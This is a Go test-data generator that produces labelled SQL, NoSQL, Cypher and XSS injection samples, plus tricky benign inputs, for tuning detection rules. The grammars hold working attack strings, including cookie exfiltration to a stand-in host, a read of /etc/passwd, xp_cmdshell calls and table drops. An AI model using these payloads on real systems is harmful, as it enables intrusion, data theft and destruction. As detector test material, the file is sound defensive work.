package injecttest

import "math/rand/v2"

// Dev makes the texts that rules may be tuned on.
func Dev(seed uint64) []Sample {
	return append(devSet.make(seed), secondSet.make(seed+1<<32)...)
}

var devSet = set{
	perSQL: 150, perXSS: 120, perGood: 400,
	mutators: []func(*rand.Rand, string) string{urlOnce, urlTwice, entityNamed, unicodeEscape, b64, comments, mixedCase, hexString},
	names:    []string{"url", "double-url", "entity", "unicode", "base64", "comments", "case", "hex"},
	g: grammar{
		"q":      {"'", `"`, "')", "'))", `")`, "1'", "x'", "-1'", "admin'", "test\""},
		"num":    {"1", "‹n›", "-1", "1)", "-‹n›)", "0"},
		"sp":     {" ", " ", " ", "  "},
		"end":    {"--", "-- -", "#", "/*", "--+", " -- ", ";--"},
		"logic":  {"or", "and", "OR", "AND", "||", "&&", "Or", "xor"},
		"col":    {"id", "name", "password", "email", "user_id", "login"},
		"table":  {"users", "accounts", "members", "orders", "admin"},
		"lit":    {"1=1", "2>1", "1<2", "‹d›=‹d›", "'a'='a'", "1 like 1", "1 in (1)", "true", "3 between 1 and 5", "not 1=2", "‹N›=‹N›"},
		"nulls":  {"null", "null,null", "1,2,3", "1,@@version,3", "null,null,null,null", "username,password", "user(),database()", "'a','b'", "table_name,2", "concat(user,0x3a,pass),2", "group_concat(table_name)"},
		"from":   {"", " from ‹table›", " from information_schema.tables", " from users where id=1", " from dual", " from mysql.user"},
		"stmt":   {"drop table ‹table›", "delete from ‹table›", "update ‹table› set ‹col›='x'", "insert into ‹table› values (1,'a')", "exec xp_cmdshell('dir')", "select pg_sleep(5)", "shutdown", "truncate table ‹table›", "create table x (a int)", "declare @q varchar(99)", "exec master..xp_cmdshell 'ping 1.1.1.1'", "alter table ‹table› drop column ‹col›", "waitfor delay '0:0:5'"},
		"wait":   {"sleep(5)", "pg_sleep(‹d›)", "benchmark(5000000,md5(1))", "(select sleep(5))", "(select * from (select(sleep(‹d›)))a)", "dbms_pipe.receive_message(('a'),5)", "if(1=1,sleep(5),0)", "(select count(*) from generate_series(1,9999999))"},
		"blind":  {"substring(version(),1,1)='5'", "ascii(substr((select database()),1,1))>64", "(select count(*) from ‹table›)>0", "length(database())=‹d›", "exists(select 1 from ‹table›)", "(select 'a' from ‹table› limit 1)='a'", "mid(user(),1,1)='r'", "ord(mid((select password from ‹table› limit 1),1,1))=97", "(case when (1=1) then 1 else 0 end)=1"},
		"err":    {"extractvalue(1,concat(0x7e,version()))", "updatexml(1,concat(0x7e,(select user())),1)", "convert(int,@@version)", "(select 1 from (select count(*),concat(version(),floor(rand(0)*2))x from information_schema.tables group by x)a)", "cast((select password from ‹table› limit 1) as int)=1", "utl_inaddr.get_host_name((select banner from v$version))"},
		"person": {"O'Connell St", "Anna Schmidt", "12 Main Street", "Jean d'Arc", "Dr. Wei Chen", "Flat 4, Baker St", "D'Angelo", "Rock 'n' Roll Cafe"},
		"mop":    {"$ne", "$gt", "$regex", "$in", "$exists", "$where", "$nin", "$lt"},
		"js":     {"alert(1)", "alert(document.cookie)", "confirm(1)", "prompt(‹n›)", "alert`1`", "eval(name)", "fetch('//e.vil/'+document.cookie)", "import('//x.y')", "alert('xss')", "console.log(1)", "top[/al/.source+/ert/.source](1)", "(alert)(1)", "window['alert'](1)"},
		"on":     {"onload", "onerror", "onclick", "onmouseover", "onfocus", "ontoggle", "onpointerenter", "onbegin", "onanimationstart"},
		"tag":    {"img src=x", "svg", "body", "input autofocus", "details open", "video src=x", "marquee", "a href=#", "div", "x", "iframe", "select autofocus"},
		"first":  {"Anna", "Omar", "Li", "Sean", "Fatima", "Jean-Luc", "Zoë", "Björn", "Siobhán"},
		"last":   {"O'Brien", "D'Souza", "Smith", "van der Berg", "O’Neil", "Müller", "Al-Farsi", "N'Diaye", "Grant", "Case", "Union", "Drop"},
		"thing":  {"invoice", "table", "report", "order", "drop-down", "column", "union", "group", "shipment", "index card"},
		"verb":   {"select", "update", "delete", "insert", "drop", "create", "join", "order", "execute", "alter", "grant"},
	},
	sql: map[string][]string{
		"tautology": {"‹q› ‹logic› ‹lit›‹end›", "‹q› ‹logic› ‹lit›", "‹num› ‹logic› ‹d›=‹d›", "‹num› or ‹lit›‹end›", "' or 'a'='a", "' or ''='", "\" or \"1\"=\"1", "‹q› or ‹col› is not null‹end›", "‹q› or ‹col› like '%a%", "') or ('‹w›'='‹w›", "'='", "' or 1‹end›", "‹num› or 1=1"},
		"union":     {"‹q› union select ‹nulls›‹from›‹end›", "‹num› union all select ‹nulls›‹from›", "‹num› UNION SELECT ‹nulls›‹from›‹end›", "‹q› union (select ‹nulls›‹from›)‹end›", "‹num› order by ‹d›‹end›", "‹q› order by ‹n›‹end›", "‹q› group by ‹col› having 1=1‹end›", "‹num› union select ‹nulls›‹from› limit 1,1"},
		"stacked":   {"‹q›; ‹stmt›‹end›", "‹num›; ‹stmt›", "‹w›; ‹stmt›;", "‹num›;‹stmt›‹end›", "‹q›;‹stmt›"},
		"comment":   {"admin'‹end›", "‹w›'‹end›", "admin')‹end›", "x\"‹end›", "‹w›' /*", "‹w›';‹end›"},
		"time":      {"‹q› and ‹wait›‹end›", "‹num› and ‹wait›", "‹num› or ‹wait›‹end›", "'+‹wait›+'", "‹num›-‹wait›", "'; waitfor delay '0:0:‹n›'‹end›", "‹num›; select ‹wait›", "'||‹wait›||'", "(‹wait›)"},
		"blind":     {"‹q› and ‹blind›‹end›", "‹num› and ‹blind›", "‹q› or ‹blind›‹end›", "‹num› or ‹blind›‹end›", "'||(select password from ‹table› limit 1)||'"},
		"error":     {"‹q› and ‹err›‹end›", "‹num› and ‹err›", "‹num› or ‹err›‹end›", "‹q› and 1=‹err›‹end›"},
		"file":      {"‹q› union select load_file('/etc/passwd')‹end›", "‹num› into outfile '/tmp/‹w›'", "‹q› union select 1 into dumpfile '/var/‹w›.php'‹end›", "exec xp_cmdshell 'net user'", "'; exec master..xp_cmdshell 'whoami'‹end›", "‹num›; copy ‹table› to program 'curl x'‹end›"},
		"embedded":  {"‹person›' or 1=1 --", "‹person›' OR '1'='1", "‹person›'; drop table ‹table›; --", "‹person›' union select ‹nulls›‹from›‹end›", "‹person›' and ‹wait›‹end›", "‹person› \" or \"\"=\"", "‹person›' and ‹blind› -- ", "‹person›‹q› or ‹lit›‹end›"},
		"nosql":     {`{"‹mop›": null}`, `{"‹col›": {"‹mop›": ""}}`, "‹col›[‹mop›]=1", "[‹mop›]=‹w›", `{"$or": [{}, {"a":"a"}]}`, "' || '1'=='1", "'; return true; var x='", "';return 1==1;//", `{"$where": "sleep(1000)"}`, "true, $where: '1 == 1'", `', $or: [ {}, { 'a':'a`, "' || this.password.match(/.*/)//", "‹w›' && this.‹col›.length > ‹d› || 'a'=='b", `{"$expr": {"$gt": ["$a", 0]}}`, "1; while(true){}"},
		"cypher":    {"' OR 1=1 RETURN n //", "'}) RETURN n//", "‹w›' MATCH (n) DETACH DELETE n //", "' RETURN n UNION MATCH (m:User) RETURN m //", "MATCH (n) DETACH DELETE n", "' WITH 1 as a CALL db.labels() YIELD label RETURN label //", "CALL dbms.procedures()", "' LOAD CSV FROM 'http://e.vil/' AS x RETURN x //", "‹w›'}) MATCH (u:User) SET u.admin=true //", "CALL apoc.load.json('http://e.vil')", "‹num› OR 1=1 RETURN n", "‹w›\"}) DETACH DELETE n //", "‹w›' OR n.‹col› =~ '.*", "MATCH (a:‹w›)-[r]->(b) DELETE r"},
	},
	xss: map[string][]string{
		"script":    {"<script>‹js›</script>", "<script src=//e.vil/x.js></script>", "\"><script>‹js›</script>", "</script><script>‹js›</script>", "<script type=text/javascript>‹js›//", "<SCRIPT>‹js›</SCRIPT>", "'><script>‹js›</script>"},
		"event":     {"<‹tag› ‹on›=‹js›>", "<‹tag› ‹on›=\"‹js›\">", "\"><‹tag› ‹on›=‹js›>", "<‹tag›/‹on›=‹js›>", "<‹tag› ‹on› = '‹js›' >", "<‹tag›\n‹on›=‹js›"},
		"attribute": {"\" ‹on›=\"‹js›", "' ‹on›='‹js›", "\" autofocus ‹on›=‹js› x=\"", "x\" ‹on›=‹js› \"", "' ‹on›=‹js› '"},
		"scheme":    {"javascript:‹js›", "<a href=\"javascript:‹js›\">x</a>", "java\tscript:‹js›", "vbscript:msgbox(1)", "data:text/html,<script>‹js›</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "JaVaScRiPt:‹js›", "<iframe src=javascript:‹js›>", "<form action=javascript:‹js›><input type=submit>"},
		"svg":       {"<svg><script>‹js›</script></svg>", "<svg onload=‹js›>", "<svg><animate ‹on›=‹js› attributeName=x dur=1s>", "<math><mtext></mtext><script>‹js›</script></math>", "<svg><a xlink:href=javascript:‹js›><text>x", "<math href=\"javascript:‹js›\">x</math>"},
		"css":       {"<div style=\"width:expression(‹js›)\">", "<style>@import '//e.vil/x.css';</style>", "<div style=\"background:url(javascript:‹js›)\">", "<link rel=stylesheet href=//e.vil/x.css>", "<style>*{x:expression(‹js›)}</style>"},
		"jsbreak":   {"';alert(1)//", "\"-alert(1)-\"", "'-alert(document.domain)-'", "\";‹js›;//", "\\';alert(1)//", "'}alert(1);{'", "');alert('x", "'+alert(1)+'", "${alert(1)}", "</script><svg onload=‹js›>"},
		"template":  {"{{constructor.constructor('alert(1)')()}}", "{{7*7}}", "${7*7}", "{{‹n›*‹n›}}", "#{7*7}", "{{$on.constructor('alert(1)')()}}", "{{''.__class__.__mro__}}", "{{self.__init__.__globals__}}"},
		"broken":    {"<scr<script>ipt>‹js›</scr</script>ipt>", "<<script>‹js›//", "<script/x>‹js›</script>", "<img src=x ‹on›=‹js›//", "<IMG \"\"\"><SCRIPT>‹js›</SCRIPT>\">", "<script\n>‹js›</script\n>", "<svg/onload=‹js›", "<a/href=j&#97;vascript:‹js›>x", "<object data=javascript:‹js›>", "<embed src=//e.vil/x.swf>", "<meta http-equiv=refresh content=\"0;url=javascript:‹js›\">", "<base href=//e.vil/>"},
		"embedded":  {"Hello ‹first› <script>‹js›</script> bye", "‹first› ‹last›\"><img src=x onerror=‹js›>", "Nice shop!<iframe src=//e.vil></iframe>", "see [link](javascript:‹js›)", "‹first› <svg/onload=‹js›> ‹last›"},
		"mutation":  {"<noscript><p title=\"</noscript><img src=x onerror=‹js›>\">", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=‹js›&gt;\">", "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror=‹js› src>\">", "<svg></p><style><a id=\"</style><img src=1 onerror=‹js›>\">"},
	},
	innocent: map[string][]string{
		"name":      {"‹first› ‹last›", "‹first› ‹last›, ‹first› ‹last›", "Mr ‹last› & Mrs ‹last›", "‹last›'s bakery", "‹first› \"The Rock\" ‹last›", "Côte d'Or"},
		"address":   {"‹n› O'Connell St, Dublin ‹d›", "Apt #‹n›, ‹N› King's Road", "‹n› Rue de l'Or et d'Argent", "P.O. Box ‹N›; Springfield", "Unit ‹n›/‹n› St John's Ave -- rear entrance", "‹n› Union Street", "c/o ‹first› ‹last›, ‹n› Select Close"},
		"prose-sql": {"Please ‹verb› the ‹thing› from the ‹thing› before Friday.", "You can ‹verb› one or more items; ‹verb› the ‹thing› and press Enter.", "The students' union ‹verb›s a new ‹thing› every year.", "‹verb› from the menu where it says ‹thing› and click OK", "I'd like to ‹verb› my ‹thing›, or ‹verb› the other ‹thing›.", "How do I ‹verb› a ‹thing› in a ‹thing›?", "The ‹thing› is ordered by date and grouped by ‹thing›.", "The union select committee met 5 times.", "Don't drop the ‹thing› -- it's fragile; update me when it's there.", "Select * marked fields, then delete the rest", "Either 1 or 2 = fine by me", "In case when the ‹thing› fails then call support", "the teachers' and students' unions select delegates", "set a = 1 and b = 2, then union of both"},
		"prose":     {"It's a ‹w›, isn't it? We'll see at 5 o'clock.", "Meeting at ‹n›:30 (room ‹N›) - bring your own lunch!", "\"Quite good,\" she said, \"or even great.\"", "‹first› wrote: 'yes' or 'no' is fine.", "The price is $‹n› & tax = ‹n›%.", "Rock 'n' roll or 'pop' -- your choice", "5' 10\" tall and 12\" or 14\" wide", "Great service!! 10/10 would buy again :)", "He said 'wait'; I said 'no'.", "C# and F# are languages; so is C++"},
		"code":      {"for (int i = 0; i < n; i++) { sum += a[i]; }", "if (x == 'a' || y == 'b') { return x && y; }", "const f = (a, b) => a < b && b > ‹n›;", "func ‹w›(ctx context.Context) error { return nil }", "List<String> xs = new ArrayList<>();", "Map<String, List<Object>> m = Map.of();", "def f(x): return x['id'] if x else None", "print(\"hello\" + name + '!')", "x := map[string]int{\"a\": 1}", "el.onclick = handler;", "while (true) { sleep(1000); }", "git commit -m 'fix: drop table index' # done", "std::vector<int> v; // count = ‹n›", "return a > b ? a : b; -- not lua", "time.sleep(5)", "console.log('value', x);", "let s = `total: ${count}`;", "{{ user.name }} has {{ items | length }} items", "#include <stdio.h>", "Vec<Option<Box<Form>>>", "arr.filter(x => x.id !== ‹n›).map(String)"},
		"markdown":  {"# Title\n\n- item 1\n- item 2", "**bold** and `code` -- or _both_", "| a | b |\n|---|---|\n| 1 | 2 |", "See [the docs](https://example.com/a?b=1&c=2).", "> quote\n\n1. one\n2. two", "```go\nif a < b { return \"x\" }\n```", "Use `SELECT` to read and `DELETE` to remove.", "* [x] done ; * [ ] todo"},
		"number":    {"‹N›.‹n›", "-‹n›", "1,‹N›.00", "2024-0‹d›-1‹d›T10:00:00Z", "+1 (555) ‹N›-‹n›", "1-800-‹N›", "‹n› * ‹n› = ‹N›", "1 + 1 = 2 and 2 + 2 = 4", "0x‹N›", "‹n›%", "3 < 5 and 7 > 2", "1e-‹d›", "(‹n›) ‹n›"},
		"json":      {`{"id": ‹n›, "name": "‹first›", "tags": ["a", "b"]}`, `{"a": {"b": null}, "c": true}`, `[1, 2, {"x": "y or z"}]`, `{"$schema": "https://json-schema.org/x", "$ref": "#/defs/a"}`, `{"price": "$‹n›", "size": "12\""}`, `{"query": "select a plan", "order": "by date"}`},
		"url":       {"https://example.com/‹w›?id=‹n›&sort=name#top", "https://x.org/search?q=select+a+table&from=‹n›", "http://a.b/c%20d/e%2Ff?x=%27", "mailto:a.b@c.de", "/api/v1/users/‹n›?fields=id,name&order=-created", "https://en.wikipedia.org/wiki/O%27Reilly"},
		"lookalike": {"a < b", "x <y and z> w", "I <3 you", "<a@b.c>", "‹first› <‹w›@example.com>", "if a<b or c>d", "1 <= x <= 2", "-->", "<- back", "once = 1, only = 2", "JavaScript: The Good Parts", "data: ‹n› rows", "on = off", "one=1&online=true", "alert: disk full", "f(x) = x^2 - 1", "f'(x) = 2x; f''(x) = 2", "-- ", "# 1", "/* todo */", "O'", "'", "50% off; 20% on", "a=b&c=d", "AT&T or B&B", "x || y && z"},
		"ident":     {"550e8400-e29b-41d4-a716-44665544‹N›", "aGVsbG8gd29ybGQ‹d›", "deadbeef‹N›cafe", "sk_test_‹w›‹N›", "v1.‹d›.‹n›-rc.‹d›", "user_‹N›@host-‹d›", "SGVsbG8sIHdvcmxkISBJdCBpcyBtZS4=", "‹w›.‹w›.com"},
	},
}
